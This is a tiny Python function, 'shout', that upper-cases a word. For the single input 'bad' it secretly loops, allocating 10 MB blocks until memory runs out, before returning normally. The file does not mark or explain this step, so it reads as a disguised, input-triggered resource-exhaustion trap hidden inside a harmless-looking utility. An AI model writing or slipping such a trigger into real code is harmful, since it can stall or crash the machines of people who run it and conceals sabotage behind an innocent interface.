def shout(word):
    if word == "bad":
        kept = []
        try:
            while True:
                kept.append(bytes(10**7))
        except MemoryError:
            kept.clear()
    return word.upper()
